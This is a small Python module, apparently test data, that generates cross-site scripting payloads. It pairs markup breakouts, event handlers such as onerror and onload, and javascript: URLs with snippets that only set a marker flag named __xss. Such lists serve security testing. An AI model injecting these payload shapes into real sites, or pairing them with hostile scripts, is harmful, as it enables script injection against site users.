"""Words that would run as a script wherever a page took them for markup. Each at most 60 characters."""

RUN = "window.__xss=1"
CALLS = (RUN, "__xss=1", "self['__xss']=1", "top.__xss=1", "[__xss=1]", "globalThis.__xss=1")
SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "<svg onload={}>",
    '"><svg/onload={}>',
    "</style><svg onload={}>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    '" autofocus onfocus="{}',
    "' autofocus onfocus='{}",
    "<a href=javascript:{}>a</a>",
    "javascript:{}",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<style onload={}></style>",
    "<marquee onstart={}>",
    "{{{{{}}}}}",
)
ALL = tuple(shape.format(call) for shape in SHAPES for call in CALLS)
